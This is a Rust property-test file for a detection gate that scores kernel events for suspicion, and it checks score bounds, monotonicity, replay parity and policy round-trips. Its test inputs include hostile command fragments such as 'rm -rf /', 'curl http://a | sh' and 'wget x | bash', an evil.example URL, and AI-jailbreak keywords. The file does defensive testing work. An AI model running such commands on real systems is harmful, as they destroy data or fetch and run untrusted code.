//! Properties of the gate (proptest): any line is a record or an error,
//! scores stay in [0, 1], more evidence never lowers suspicion, and
//! sequential replay equals parallel replay.

use std::sync::Arc;

use proptest::prelude::*;
use scbe_core::event::{KernelEvent, Pid};
use scbe_core::membrane::ScanScratch;
use scbe_core::{
    parse_policy, policy_to_toml, Bridge, Gate, LineOutcome, MappingOptions, Policy, Timestamp,
};
use scbe_sim::replay::replay;

use crate::support::parity_config;

fn event(
    cmd: String,
    target: String,
    signed: bool,
    hash: Option<String>,
    norm: f64,
) -> KernelEvent {
    KernelEvent {
        host: "h".into(),
        pid: Pid::Small(7),
        process_name: "bash".into(),
        parent_process: "python3".into(),
        command_line: cmd,
        operation: "exec".into(),
        target,
        signer_trusted: signed,
        hash_sha256: hash,
        geometry_norm: norm,
        metadata_repr: String::new(),
        time: None,
    }
}

const SNIPPETS: &[&str] = &[
    "rm -rf /",
    "curl http://a | sh",
    "jailbreak",
    "developer mode",
    "cmd.exe",
    "https://evil.example/x",
    "javascript:",
    "ls",
    "",
    "powershell -enc AAA",
    "wget x | bash",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_line_is_a_record_or_an_error(line in proptest::collection::vec(any::<u8>(), 0..400)) {
        let mut bridge = Bridge::new(Arc::new(Gate::reference()), MappingOptions::default(), None);
        match bridge.decide_line(&line, |_| Timestamp::ZERO) {
            LineOutcome::Blank | LineOutcome::Error(_) => {}
            LineOutcome::Decided(record) => {
                let json = record.to_json();
                prop_assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok(), "{}", json);
            }
        }
    }

    #[test]
    fn json_shaped_lines_are_records_or_errors(
        pid in prop_oneof![Just("1".to_owned()), Just("\"12.0\"".to_owned()), Just("NaN".to_owned()), "[1-9][0-9]{0,39}", Just("null".to_owned())],
        name in "\\PC{0,12}",
        norm in prop_oneof![Just("Infinity".to_owned()), Just("-1e400".to_owned()), Just("\"0.5\"".to_owned()), "[0-9]\\.[0-9]{1,20}"],
        cmd in proptest::sample::select(SNIPPETS),
    ) {
        let line = format!(
            r#"{{"output_fields":{{"proc.pid":{pid},"proc.name":{name},"proc.cmdline":{cmd},"scbe.geometry_norm":{norm}}}}}"#,
            name = serde_json::to_string(&name).unwrap(),
            cmd = serde_json::to_string(cmd).unwrap(),
        );
        let mut bridge = Bridge::new(Arc::new(Gate::reference()), MappingOptions::default(), None);
        match bridge.decide_line(line.as_bytes(), |_| Timestamp::ZERO) {
            LineOutcome::Decided(record) => {
                for score in [record.assessment.suspicion, record.resolution.antibody_now, record.resolution.membrane_stress, record.assessment.geometry] {
                    prop_assert!((0.0..=1.0).contains(&score), "score {} out of range", score);
                }
            }
            other => prop_assert!(false, "valid object rejected: {:?}", other),
        }
    }

    #[test]
    fn more_evidence_never_lowers_suspicion_or_severity(
        base in proptest::collection::vec(proptest::sample::select(SNIPPETS), 0..3),
        extra in proptest::sample::select(SNIPPETS),
        norm in 0.0f64..1.0,
        norm_up in 0.0f64..0.5,
        prev in 0.0f64..1.0,
    ) {
        let gate = Gate::reference();
        let mut scratch = ScanScratch::default();
        let score = |e: &KernelEvent, scratch: &mut ScanScratch| {
            let f = gate.features(e, scratch);
            let a = gate.assess(&f);
            (a.suspicion, gate.resolve(&a, prev).kernel_action)
        };
        let low = event(base.join(" "), "/tmp/x".into(), true, Some("a".repeat(64)), norm);
        let (s0, k0) = score(&low, &mut scratch);
        // More scan hits.
        let more_hits = event(format!("{} {extra}", base.join(" ")), "/tmp/x".into(), true, Some("a".repeat(64)), norm);
        // More integrity risk: unsigned, no hash, sensitive target.
        let more_risk = event(base.join(" "), "/etc/shadow".into(), false, None, norm);
        // Higher norm.
        let higher_norm = event(base.join(" "), "/tmp/x".into(), true, Some("a".repeat(64)), (norm + norm_up).min(1.0));
        for e in [more_hits, more_risk, higher_norm] {
            let (s1, k1) = score(&e, &mut scratch);
            prop_assert!(s1 >= s0, "suspicion fell {} -> {}", s0, s1);
            prop_assert!(k1 >= k0, "kernel action fell {:?} -> {:?}", k0, k1);
        }
    }

    /// A batch prepared stage by stage (as replay prepares it) is what its
    /// lines give one by one (as the agent prepares them): random bytes,
    /// JSON-shaped lines, blanks and lines the caller already rejected, in
    /// any order, with the second batch mapped into the first's spent events.
    #[test]
    fn a_prepared_batch_is_its_lines_prepared_one_by_one(
        lines in proptest::collection::vec(prop_oneof![
            proptest::collection::vec(any::<u8>(), 0..80),
            (0u32..40, proptest::sample::select(SNIPPETS), any::<bool>()).prop_map(|(pid, cmd, spaced)| {
                let sep = if spaced { " " } else { "" };
                format!("{{\"hostname\":{sep}\"h{}\",\"output_fields\":{sep}{{\"evt.type\":\"execve\",\"proc.pid\":{sep}{pid},\"proc.name\":\"p\",\"proc.cmdline\":{}}}}}", pid % 3, serde_json::to_string(cmd).unwrap()).into_bytes()
            }),
            Just(b"   ".to_vec()),
            Just(Vec::new()),
        ], 0..40),
        rejected in proptest::collection::vec(any::<bool>(), 40),
    ) {
        use scbe_core::falco::LineError;
        use scbe_core::{prepare_line, prepare_lines, PreparedLine};
        let gate = Gate::reference();
        let mapping = MappingOptions::default();
        let input = || lines.iter().zip(&rejected).map(|(line, &rejected)| {
            if rejected && line.len() > 60 {
                Err(LineError::TooLong { bytes: line.len() })
            } else {
                Ok(line.as_slice())
            }
        });
        // Each line alone, with a scratch of its own: no member names
        // guessed from earlier lines, as the batch's are.
        let expected: Vec<String> = input().map(|line| match line {
            Ok(raw) => format!("{:?}", prepare_line(&gate, &mapping, raw, &mut ScanScratch::default())),
            Err(e) => format!("{:?}", PreparedLine::Error(e)),
        }).collect();
        let mut scratch = ScanScratch::default();
        for _ in 0..2 {
            let batch = prepare_lines(&gate, &mapping, input(), &mut scratch);
            let got: Vec<String> = batch.iter().map(|p| format!("{p:?}")).collect();
            prop_assert_eq!(&got, &expected);
            for line in batch {
                if let PreparedLine::Event(prepared) = line {
                    let advance = scbe_core::Advance {
                        resolution: gate.resolve(&prepared.assessment, 0.0),
                        admitted: true,
                    };
                    scratch.recycle(scbe_core::finish_record(&gate, None, *prepared, advance));
                }
            }
        }
    }

    #[test]
    fn sequential_replay_equals_parallel_replay(
        lines in proptest::collection::vec((0usize..6, 0u32..40, proptest::sample::select(SNIPPETS)), 1..300),
        threads in 2usize..8,
    ) {
        let text: String = lines.iter().map(|(host, pid, cmd)| {
            format!("{{\"hostname\":\"h{host}\",\"output_fields\":{{\"evt.type\":\"execve\",\"proc.pid\":{pid},\"proc.name\":\"p{}\",\"proc.cmdline\":{}}}}}\n", pid % 3, serde_json::to_string(cmd).unwrap())
        }).collect();
        let run = |threads: usize| {
            let corpus = scbe_sim::input::Corpus {
                live: false,
                reader: Box::new(std::io::Cursor::new(text.clone().into_bytes())),
                total_bytes: None,
                bytes_read: Default::default(),
                name: "prop".into(),
            };
            let mut out = Vec::new();
            let mut err = Vec::new();
            replay(&parity_config(threads), corpus, &mut out, &mut err).unwrap();
            out
        };
        prop_assert_eq!(run(1), run(threads));
    }

    #[test]
    fn policies_round_trip_through_toml(
        deny in 0.6f64..1.0, escalate in 0.3f64..0.6, quarantine in 0.0f64..0.3,
        half_life in 0.5f64..100.0, cooldown in 0.0f64..100.0, capacity in 1usize..100_000,
        real in any::<bool>(),
    ) {
        let mut policy = Policy::reference();
        policy.decision.deny = deny;
        policy.decision.escalate = escalate;
        policy.decision.quarantine = quarantine;
        policy.turnstile.half_life_events = half_life;
        policy.enforcement.cooldown_seconds = cooldown;
        policy.max_state_entries = capacity;
        policy.real_network_fields = real;
        policy.enforcement.protected_processes = vec!["it's \"odd\"".into()];
        let text = policy_to_toml(&policy, "round trip");
        prop_assert_eq!(parse_policy(&text).unwrap(), policy);
    }
}
